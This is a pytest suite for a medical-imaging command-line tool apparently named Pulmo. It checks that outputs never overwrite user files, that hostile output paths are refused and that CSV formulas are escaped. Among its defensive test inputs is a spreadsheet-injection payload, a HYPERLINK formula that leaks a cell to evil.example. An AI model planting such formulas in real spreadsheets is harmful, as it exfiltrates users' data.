"""Outputs never cost a user's file (issue 19, deliverable 4), command by command, in new processes.

* An output file is replaced only when Pulmo wrote it and it is unchanged (the folder's
  ``.pulmo-manifest.json`` says so), or with ``--force``; never an input, never a file of the
  user's in an input folder, never through a link, a pipe, a device or a folder.
* An output folder is replaced only when it holds nothing but Pulmo's unchanged files; a batch
  gives every study its own folder, and names it in ``summary.csv``, which is protected too.
* Paths a hostile user would try get a message and exit status 2: under a file, a newline or
  a very long name, a loop of links, two outputs with one name, the output as the input.
* Every CSV Pulmo writes has its formula-like text cells escaped (OWASP), numbers left alone.

Each case checks the exit status, the message, the budgets, and that no file outside the
command's own output changed. Inputs are generated here.
"""

from __future__ import annotations

import csv
import importlib.util
import io
import json
import os
import shutil
import sys
import zipfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import numpy as np
import pytest

pytestmark = pytest.mark.slow

TESTS = Path(__file__).resolve().parents[1]
for _p in (TESTS, TESTS / "ct"):
    if str(_p) not in sys.path:
        sys.path.insert(0, str(_p))


def _harness():
    """The harness (``conftest.py`` beside this file), loaded by its path: several folders of tests
    have a ``conftest.py``."""
    if "hostile_harness" not in sys.modules:
        spec = importlib.util.spec_from_file_location("hostile_harness", Path(__file__).with_name("conftest.py"))
        sys.modules["hostile_harness"] = module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
    return sys.modules["hostile_harness"]


Snapshot = _harness().Snapshot


def run(args, **kw):
    """The harness's ``run``. Its watchdog thread polls the child (``Popen.poll`` reaps it) while
    the main thread waits for it with ``wait4``: when the watchdog wins, ``wait4`` finds no child
    (``ChildProcessError``), more often on a busy machine. Such a run is run again; the commands
    here give the same answer when repeated."""
    for _ in range(2):
        try:
            return _harness().run(args, **kw)
        except ChildProcessError:
            pass
    return _harness().run(args, **kw)
MANIFEST = ".pulmo-manifest.json"
IS_ROOT = hasattr(os, "geteuid") and os.geteuid() == 0
HAS_TORCH = importlib.util.find_spec("torch") is not None
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'


def run_all(cases: dict, **kw) -> dict:
    """Run several commands at once (each in its own process, with its own budgets)."""
    with ThreadPoolExecutor(max_workers=4) as pool:
        futures = {name: pool.submit(run, args, **kw) for name, args in cases.items()}
    return {name: f.result() for name, f in futures.items()}


# --------------------------------------------------------------------------- inputs, made here

@pytest.fixture(scope="module")
def inputs(tmp_path_factory):
    import SimpleITK as sitk
    from PIL import Image
    from ct_synth import phantom
    from synthetic_triage import make_synthetic_model

    d = tmp_path_factory.mktemp("inputs")
    hu, _ = phantom()
    img = sitk.GetImageFromArray(hu.astype(np.int16))
    img.SetSpacing((3.0, 3.0, 2.5))
    sitk.WriteImage(img, str(d / "p1.nii.gz"))
    make_synthetic_model().save(d / "model.pulmo-triage")
    (d / "pin.csv").write_text(
        "id,xray_abnormality,dyspnea,comorbidities,malignancy,copd,age,nlr,ldh,direct_bilirubin,creatine_kinase,"
        "note\n"
        f'p1,1,0,1,0,0,60,3.5,250,4,100,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'
        "p2,0,1,0,0,1,70,2.5,300,5,120,-3.5\n"
        "p3,0,0,0,0,0,45,1.5,200,3,90,@SUM(1+1)\n")
    (d / "sin.csv").write_text("respiratory_rate,age,sex,note,+cmd\n"
                               "32,80,M,=1+1,+1\n"
                               "18,40,F,-3.5,-2+3\n")
    rng = np.random.default_rng(0)
    n = 40
    truth = np.r_[np.ones(n // 2), np.zeros(n // 2)].astype(int)
    score = truth + rng.normal(0, 0.8, n)
    site = np.where(np.arange(n) % 2 == 0, FORMULA.replace('"', "'"), "-2+3")
    (d / "roc.csv").write_text("truth,score,site\n" + "".join(
        f'{t},{s:.4f},"{g}"\n' for t, s, g in zip(truth, score, site)))
    t = rng.uniform(1, 60, n).round(1)
    (d / "surv.csv").write_text("time,event,risk\n" + "".join(
        f"{a},{int(a < 30)},{60 - a + rng.normal(0, 5):.3f}\n" for a in t))
    mask = np.zeros((32, 32), np.uint8)
    mask[8:20, 8:20] = 1
    mask[10:14, 10:14] = 2
    for sub in ("epred", "egt", "vpred", "vgt"):
        (d / sub).mkdir()
    for name in ("=a", "b"):
        Image.fromarray(mask).save(d / "epred" / f"{name}_lesions.png")
        Image.fromarray(mask).save(d / "egt" / f"{name}.png")
        Image.fromarray(mask).save(d / "vpred" / f"{name}.png")
        Image.fromarray(mask).save(d / "vgt" / f"{name}.png")
    (d / "egt" / "notes.csv").write_text("the annotator's notes\n")   # a file of the user's in GT_DIR
    age, ldh = rng.uniform(30, 90, 80), rng.uniform(150, 600, 80)
    ft, ev = rng.uniform(1, 40, 80).round(1), (rng.uniform(0, 1, 80) < 0.4).astype(int)
    (d / "cohort.csv").write_text("age,ldh,time,event\n" + "".join(
        f"{a:.0f},{b:.0f},{x},{e}\n" for a, b, x, e in zip(age, ldh, ft, ev)))
    with zipfile.ZipFile(d / "models.zip", "w") as zf:   # not the published model: refused cases only
        zf.writestr("fold_0/readme.txt", "x")
    return d


@pytest.fixture
def work(tmp_path, inputs):
    """A fresh working folder with a copy of the inputs in ``in/``."""
    shutil.copytree(inputs, tmp_path / "in", symlinks=True)
    return tmp_path


def _commands(i: Path) -> dict:
    """Every command that writes a file: name -> (argv with output OUT, exit status of a good run,
    inputs the output may not be, input folders)."""
    train = ["--time", "time", "--event", "event", "--folds", "2", "--epochs", "3", "--patience", "1", "-q",
             "--horizons", "5,10"]
    cmds = {
        "triage predict": (lambda o: ["triage", "predict", i / "pin.csv", "--model", i / "model.pulmo-triage", "-o", o],
                           0, [i / "pin.csv", i / "model.pulmo-triage"]),
        "triage score": (lambda o: ["triage", "score", i / "sin.csv", "-o", o], 0, [i / "sin.csv"]),
        "triage score --set": (lambda o: ["triage", "score", "--set", "respiratory_rate=32", "--set", "age=80",
                                          "-o", o], 0, []),
        "validate roc --csv": (lambda o: ["validate", "roc", i / "roc.csv", "--truth", "truth", "--score", "score",
                                          "--by", "site", "--csv", o], 0, [i / "roc.csv"]),
        "validate roc --json": (lambda o: ["validate", "roc", i / "roc.csv", "--truth", "truth", "--score", "score",
                                           "--json", o], 0, [i / "roc.csv"]),
        "validate roc --report": (lambda o: ["validate", "roc", i / "roc.csv", "--truth", "truth", "--score",
                                             "score", "--report", o], 0, [i / "roc.csv"]),
        "validate survival --json": (lambda o: ["validate", "survival", i / "surv.csv", "--time", "time", "--event",
                                                "event", "--risk", "risk", "--json", o], 0, [i / "surv.csv"]),
        "validate survival --csv": (lambda o: ["validate", "survival", i / "surv.csv", "--time", "time", "--event",
                                               "event", "--risk", "risk", "--csv", o], 0, [i / "surv.csv"]),
        "validate segmentation --csv": (lambda o: ["validate", "segmentation", i / "vpred", i / "vgt", "--csv", o],
                                        0, []),
        "ct evaluate --csv": (lambda o: ["ct", "evaluate", i / "epred", i / "egt", "--csv", o], 0, []),
        "triage import-model": (lambda o: ["triage", "import-model", i / "models.zip", "-o", o], None,
                                [i / "models.zip"]),
    }
    if HAS_TORCH:
        cmds["triage train"] = (lambda o: ["triage", "train", i / "cohort.csv", *train, "-o", o], 0,
                                [i / "cohort.csv"])
    return cmds


COMMANDS = list(_commands(Path("x")))
WRITES = [c for c in COMMANDS if _commands(Path("x"))[c][1] is not None]


def _out_name(cmd: str) -> str:
    return {"triage import-model": "m.pulmo-triage", "triage train": "m.pulmo-triage",
            "validate roc --report": "r.html"}.get(cmd, "out.json" if "json" in cmd else "out.csv")


# --------------------------------------------------------------------------- files

def _check(runs: dict, refused: str | tuple = (), exit_codes: dict | None = None, max_s: float = 30) -> None:
    """Every run of ``runs`` (name -> Run) refused with the fragments ``refused``, or, without
    them, finished with its command's exit status (``exit_codes``)."""
    fragments = (refused,) if isinstance(refused, str) else refused
    for name, r in runs.items():
        try:
            if fragments:
                r.assert_refused(*fragments, max_s=max_s)
            else:
                r.assert_ok((exit_codes or {}).get(name, 0))
        except AssertionError as exc:
            raise AssertionError(f"{name}: {exc}") from None


def test_rerun_replaces_pulmo_s_own_file_and_nothing_else(work):
    """Every command twice into the same file (no --force needed); then the file edited by the user:
    refused, unless --force. The commands run side by side, each into its own folder."""
    cmds = _commands(work / "in")
    outs = {}
    for k, c in enumerate(WRITES):
        (work / f"res{k}").mkdir()
        outs[c] = work / f"res{k}" / _out_name(c)
    codes = {c: cmds[c][1] for c in WRITES}
    snap = Snapshot(work)
    for _ in range(2):
        _check(run_all({c: cmds[c][0](outs[c]) for c in WRITES}, cwd=work), exit_codes=codes)
    want = []
    for c, out in outs.items():
        extra = ["m.report.json", "m.report.md"] if c == "triage train" else []
        names = [out.name, *extra]
        want += [f"{out.parent.name}/{n}" for n in [*names, MANIFEST]]
        assert set(json.loads((out.parent / MANIFEST).read_text())["files"]) == set(names), c
    assert sorted(snap.changed()) == sorted(want)

    for out in outs.values():                             # edited since Pulmo wrote it
        out.write_bytes(out.read_bytes() + b"\nmy own line\n")
    snap = Snapshot(work)
    _check(run_all({c: cmds[c][0](outs[c]) for c in WRITES}, cwd=work),
           refused=("was changed since Pulmo wrote it", "--force"))
    assert snap.changed() == []
    _check(run_all({c: cmds[c][0](outs[c]) + ["--force"] for c in WRITES}, cwd=work), exit_codes=codes)
    assert not [c for c, out in outs.items() if b"my own line" in out.read_bytes()]


def test_a_file_of_the_user_s_is_refused_unless_force(work):
    cmds = _commands(work / "in")
    outs = {}
    for k, c in enumerate(COMMANDS):
        (work / f"res{k}").mkdir()
        outs[c] = work / f"res{k}" / _out_name(c)
        outs[c].write_text("the user's own file\n")
    snap = Snapshot(work)
    _check(run_all({c: cmds[c][0](outs[c]) for c in COMMANDS}, cwd=work),
           refused=("the file exists and was not written by Pulmo", "pass --force to replace it"), max_s=5)
    assert snap.changed() == []
    _check(run_all({c: cmds[c][0](outs[c]) + ["--force"] for c in WRITES}, cwd=work),
           exit_codes={c: cmds[c][1] for c in WRITES})
    assert not [c for c in WRITES if outs[c].read_bytes() == b"the user's own file\n"]
    assert outs["triage import-model"].read_text() == "the user's own file\n"


#: the cases of :func:`_hostile_paths` run for every command (the others for one command of each kind)
EVERY_COMMAND = ("under a file", "link to a file elsewhere", "a folder", "a named pipe", "/dev/null",
                 "newline in the name", "very long name", "under a loop of links")
ALL_CASES_FOR = ("triage score", "validate roc --csv", "ct evaluate --csv", "triage train")


def _hostile_paths(w: Path) -> dict:
    """Output paths a hostile (or unlucky) user gives: name -> (path, what the message says)."""
    (w / "afile").write_text("a file, not a folder")
    (w / "elsewhere").mkdir()
    (w / "elsewhere" / "precious.csv").write_text("precious")
    (w / "link.csv").symlink_to(w / "elsewhere" / "precious.csv")
    (w / "dangling.csv").symlink_to(w / "nowhere" / "x.csv")
    (w / "loop").symlink_to(w / "loop")
    (w / "adir").mkdir()
    os.mkfifo(w / "fifo")
    return {
        "under a file": (w / "afile" / "out.csv", "afile is a file, not a folder"),
        "deep under a file": (w / "afile" / "a" / "b" / "out.csv", "afile is a file, not a folder"),
        "link to a file elsewhere": (w / "link.csv", "is a symbolic link"),
        "dangling link": (w / "dangling.csv", "is a symbolic link"),
        "loop of links": (w / "loop", "is a symbolic link"),
        "under a loop of links": (w / "loop" / "out.csv", "too many levels of symbolic links"),
        "a folder": (w / "adir", "is a folder"),
        "a named pipe": (w / "fifo", "is a named pipe, not a regular file"),
        "/dev/null": (Path("/dev/null"), "is a device, not a regular file"),
        "newline in the name": (w / "a\nb.csv", "control character"),
        "very long name": (w / ("x" * 300 + ".csv"), "too long"),
        "the manifest's name": (w / MANIFEST, "record of its outputs"),
    }


@pytest.mark.parametrize("cmd", COMMANDS)
def test_hostile_output_paths_are_refused(work, cmd):
    build, _, inputs = _commands(work / "in")[cmd]
    paths = _hostile_paths(work)
    if cmd not in ALL_CASES_FOR:
        paths = {k: v for k, v in paths.items() if k in EVERY_COMMAND}
    for k, p in enumerate(inputs):                        # the output is an input
        paths[f"input {k}"] = (p, "overwrite")
    snap = Snapshot(work)
    runs = run_all({name: build(p) + ["--force"] for name, (p, _) in paths.items()}, cwd=work)
    for name, r in runs.items():
        try:
            r.assert_refused(paths[name][1])
        except AssertionError as exc:
            raise AssertionError(f"{cmd}, {name}: {exc}") from None
    assert snap.changed() == []
    assert (work / "elsewhere" / "precious.csv").read_text() == "precious"
    assert Path("/dev/null").is_char_device() and (work / "fifo").is_fifo()


@pytest.mark.skipif(IS_ROOT, reason="root writes into read-only folders")
@pytest.mark.parametrize("cmd", ["triage score", "validate roc --csv", "ct evaluate --csv"])
def test_read_only_folder(work, cmd):
    build, _, _ = _commands(work / "in")[cmd]
    ro = work / "ro"
    ro.mkdir()
    ro.chmod(0o555)
    try:
        run(build(ro / "out.csv"), cwd=work).assert_refused("not writable")
    finally:
        ro.chmod(0o755)


def test_two_outputs_with_one_name_and_outputs_over_other_inputs(work):
    i = work / "in"
    roc = ["validate", "roc", i / "roc.csv", "--truth", "truth", "--score", "score"]
    cases = {
        "json = csv": (roc + ["--json", work / "x", "--csv", work / "x"], "--json and --csv name the same file"),
        "report = json": (roc + ["--report", work / "r", "--json", work / "sub" / ".." / "r"],
                          "--json and --report name the same file"),
        "predict over its model": (["triage", "predict", i / "pin.csv", "--model", i / "model.pulmo-triage", "-o",
                                    i / "model.pulmo-triage", "--force"], "is an input of this command"),
        "evaluate over GT notes": (["ct", "evaluate", i / "epred", i / "egt", "--csv", i / "egt" / "notes.csv",
                                    "--force"], "lies in the input folder"),
        "evaluate over a mask": (["ct", "evaluate", i / "epred", i / "egt", "--csv", i / "egt" / "b.png"],
                                 "an image file name"),
        "segmentation into GT": (["validate", "segmentation", i / "vpred", i / "vgt", "--csv", i / "vgt" / "b.png",
                                  "--force"], "lies in the input folder"),
        "import into its source": (["triage", "import-model", i / "epred", "-o", i / "epred" / "m"],
                                   "written into) the source"),
        "train: report = model": (["triage", "train", i / "cohort.csv", "--time", "time", "--event", "event", "-o",
                                   work / "r.json", "--report", work / "r"], "would overwrite the model file"),
        "train: model = cohort": (["triage", "train", i / "cohort.csv", "--time", "time", "--event", "event", "-o",
                                   i / "cohort.csv", "--force"], "would overwrite the cohort file"),
        "train: report under a file": (["triage", "train", i / "cohort.csv", "--time", "time", "--event", "event",
                                        "-o", work / "m", "--report", i / "cohort.csv" / "r"],
                                       "cohort.csv is a file, not a folder"),
    }
    snap = Snapshot(work)
    runs = run_all({k: v[0] for k, v in cases.items()}, cwd=work)
    for name, r in runs.items():
        try:
            r.assert_refused(cases[name][1])
        except AssertionError as exc:
            raise AssertionError(f"{name}: {exc}") from None
    assert snap.changed() == []


def test_report_base_of_train_protects_the_user_s_files(work):
    if not HAS_TORCH:
        pytest.skip("PyTorch is not installed")
    i = work / "in"
    (work / "m.report.md").write_text("my notes on the last model")
    snap = Snapshot(work)
    r = run(["triage", "train", i / "cohort.csv", "--time", "time", "--event", "event", "-o", work / "m.pulmo-triage"],
            cwd=work)
    r.assert_refused("m.report.md: the file exists and was not written by Pulmo", "--force")
    assert snap.changed() == []


# --------------------------------------------------------------------------- folders

def _seg(src, out, *extra):
    return ["ct", "segment", src, "-o", out, "--no-progress", *extra]


def test_ct_output_folder_rerun_user_files_and_earlier_outputs(work):
    src = work / "in" / "p1.nii.gz"
    out = work / "out"
    for _ in range(2):
        run(_seg(src, out), cwd=work).assert_ok()
    assert (out / MANIFEST).is_file() and (out / "results.json").is_file()
    (out / "notes.txt").write_text("my reading of the case")
    (out / "mine").mkdir()
    snap = Snapshot(work)
    r = run(_seg(src, out), cwd=work)          # refused before the analysis: within the refusal budget
    r.assert_refused("holds files Pulmo did not write: mine/, notes.txt", "move them out of the folder")
    r = run(["ct", "analyze", src, "-o", out, "--no-progress"], cwd=work)
    r.assert_refused("notes.txt")
    assert snap.changed() == []
    (out / "notes.txt").unlink()
    (out / "mine").rmdir()
    with open(out / "lungs.nii.gz", "ab") as fh:          # a mask corrected by hand
        fh.write(b"\0")
    snap = Snapshot(work)
    run(_seg(src, out), cwd=work).assert_refused("files changed since Pulmo wrote them: lungs.nii.gz")
    assert snap.changed() == []

    legacy = work / "legacy"                              # written before Pulmo kept a manifest
    shutil.copytree(out, legacy)
    (legacy / MANIFEST).unlink()
    (legacy / "lungs.nii.gz").write_bytes(b"old")
    (legacy / "report.html").write_text("old")
    run(_seg(src, legacy), cwd=work).assert_ok()
    assert (legacy / MANIFEST).is_file() and (legacy / "lungs.nii.gz").read_bytes() != b"old"
    assert not (legacy / "report.html").exists()
    (legacy / MANIFEST).unlink()
    (legacy / "notes.txt").write_text("mine")
    snap = Snapshot(work)
    run(_seg(src, legacy), cwd=work).assert_refused("files Pulmo did not write: notes.txt")
    (legacy / MANIFEST).write_text("{broken")
    run(_seg(src, legacy), cwd=work).assert_refused("is damaged or not pulmo's")
    assert snap.changed() == [f"legacy/{MANIFEST}"]
    assert not [p for p in work.iterdir() if p.name.startswith(".")]   # no staging leftovers


def test_hostile_output_folders(work):
    src = work / "in" / "p1.nii.gz"
    real = work / "real"
    run(_seg(src, real), cwd=work).assert_ok()
    (work / "afile").write_text("x")
    (work / "linked").symlink_to(real)
    (work / "loop").symlink_to(work / "loop")
    os.mkfifo(work / "fifo")
    cases = {
        "link to a Pulmo folder": (work / "linked", "is a symbolic link"),
        "a file": (work / "afile", "exists and is not a folder (a file)"),
        "under a file": (work / "afile" / "out", "afile is a file, not a folder"),
        "/dev/null": ("/dev/null", "not a folder (a device)"),
        "a named pipe": (work / "fifo", "not a folder (a named pipe)"),
        "a loop of links": (work / "loop", "cannot use it as the output folder"),
        "the input": (src, "is the input or contains it"),
        "the input's folder": (src.parent, "is the input or contains it"),
        "newline in the name": (work / "a\nb", "control character"),
        "very long name": (work / ("o" * 300), "too long"),
        "empty": ("", "empty output folder name"),
        "the root": ("/", "is the input or contains it"),
    }
    snap = Snapshot(work)
    runs = run_all({k: _seg(src, p) for k, (p, _) in cases.items()}, cwd=work)
    for name, r in runs.items():
        try:
            r.assert_refused(cases[name][1])
        except AssertionError as exc:
            raise AssertionError(f"{name}: {exc}") from None
    assert snap.changed() == []


def test_batch_names_are_unique_and_summary_names_the_folders(work):
    import SimpleITK as sitk

    studies = work / "studies"
    studies.mkdir()
    src = work / "in" / "p1.nii.gz"
    shutil.copy(src, studies / "p1.nii.gz")
    img = sitk.ReadImage(str(src))
    sitk.WriteImage(img, str(studies / "p1.nrrd"))        # the same name as p1.nii.gz
    sitk.WriteImage(img, str(studies / "P1.mha"))         # the same, ignoring case
    shutil.copy(src, studies / "=cmd.nii.gz")             # a name a spreadsheet would run
    out = work / "out"
    snap = Snapshot(work)
    for _ in range(2):                                    # a rerun replaces the batch's own folders
        run(["ct", "segment", studies, "-o", out, "--batch", "--no-progress"], cwd=work).assert_ok()
    rows = list(csv.DictReader(io.StringIO((out / "summary.csv").read_text())))
    assert [(r["case"], r["output"], r["status"]) for r in rows] == [
        ("'=cmd.nii.gz", "'=cmd", "ok"), ("P1.mha", "P1_mha", "ok"), ("p1.nii.gz", "p1_nii_gz", "ok"),
        ("p1.nrrd", "p1_nrrd", "ok")]
    assert sorted(p.name for p in out.iterdir()) == [MANIFEST, "=cmd", "P1_mha", "p1_nii_gz", "p1_nrrd",
                                                     "summary.csv"]
    assert all((out / n / "results.json").is_file() for n in ("=cmd", "P1_mha", "p1_nii_gz", "p1_nrrd"))
    assert all(c.startswith("out/") for c in snap.changed())

    (out / "p1_nrrd" / "notes.txt").write_text("mine")    # refused before any study is analysed
    snap = Snapshot(work)
    r = run(["ct", "segment", studies, "-o", out, "--batch", "--no-progress"], cwd=work)
    r.assert_refused("study folders", "notes.txt")
    (out / "p1_nrrd" / "notes.txt").unlink()
    (out / "summary.csv").write_text("my own summary\n")  # the user's summary.csv in the batch folder
    r = run(["ct", "segment", studies, "-o", out, "--batch", "--no-progress"], cwd=work)
    r.assert_refused("summary.csv: the file exists and", "move the file")
    assert "--force" not in r.output
    assert snap.changed() == ["out/p1_nrrd/notes.txt", "out/summary.csv"]
    (work / "afile").write_text("x")
    run(["ct", "segment", studies, "-o", work / "afile", "--batch", "--no-progress"], cwd=work).assert_refused(
        "exists and is not a folder")


# --------------------------------------------------------------------------- CSV formulas

def _cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))


def _formula_like(cell: str) -> bool:
    import re

    number = re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?|[+-]?(inf|nan)", cell, re.I)
    return len(cell) > 1 and cell[0] in "=+-@\t\r" and not number


def test_every_csv_pulmo_writes_escapes_formulas(work):
    i = work / "in"
    (work / "slices").mkdir()
    from PIL import Image

    yy, xx = np.mgrid[:96, :96]
    img = np.full((96, 96), 150, np.uint8)
    for cx in (30, 66):
        img[((xx - cx) / 15.0) ** 2 + ((yy - 48) / 30.0) ** 2 <= 1] = 20
    Image.fromarray(img).save(work / "slices" / "=x.png")
    Image.fromarray(img).save(work / "slices" / "-y.png")
    (work / "studies").mkdir()
    shutil.copy(i / "p1.nii.gz", work / "studies" / "@p.nii.gz")
    cases = {
        "predict": (["triage", "predict", i / "pin.csv", "--model", i / "model.pulmo-triage", "-o", work / "p.csv"],
                    "p.csv"),
        "score": (["triage", "score", i / "sin.csv", "-o", work / "s.csv"], "s.csv"),
        "roc": (["validate", "roc", i / "roc.csv", "--truth", "truth", "--score", "score", "--by", "site", "--csv",
                 work / "r.csv"], "r.csv"),
        "segmentation": (["validate", "segmentation", i / "vpred", i / "vgt", "--csv", work / "v.csv"], "v.csv"),
        "evaluate": (["ct", "evaluate", i / "epred", i / "egt", "--csv", work / "e.csv"], "e.csv"),
        "batch": (["ct", "segment", work / "studies", "-o", work / "b", "--batch", "--no-progress"], "b/summary.csv"),
    }
    from pulmo.ct.models import DEFAULT_MODEL_8BIT

    runs = run_all({k: v[0] for k, v in cases.items()}, cwd=work)
    if DEFAULT_MODEL_8BIT.is_file():                      # a folder of 2D images needs the shipped 8-bit network
        cases["image folder"] = (["ct", "segment", work / "slices", "-o", work / "sl", "--no-progress"],
                                 "sl/summary.csv")
        runs["image folder"] = run(cases["image folder"][0], cwd=work, env={"PULMO_CT_MODELS": ""})
    for name, r in runs.items():
        r.assert_ok()
        cells = [c for row in _cells(work / cases[name][1]) for c in row]
        bad = [c for c in cells if _formula_like(c)]
        assert bad == [], (name, bad)
        escaped = [c for c in cells if c.startswith("'")]
        assert escaped, (name, cells[:20])
    p = _cells(work / "p.csv")
    note = [r[p[0].index("note")] for r in p[1:]]
    assert note == ["'" + FORMULA, "-3.5", "'@SUM(1+1)"]          # numbers stay numbers
    s = _cells(work / "s.csv")
    assert s[0][:5] == ["respiratory_rate", "age", "sex", "note", "'+cmd"]
    assert [r[3] for r in s[1:]] == ["'=1+1", "-3.5"] and [r[4] for r in s[1:]] == ["+1", "'-2+3"]
    r = _cells(work / "r.csv")
    assert any(c.startswith("'=HYPERLINK(") for row in r for c in row) and any(c == "'-2+3" for row in r for c in row)
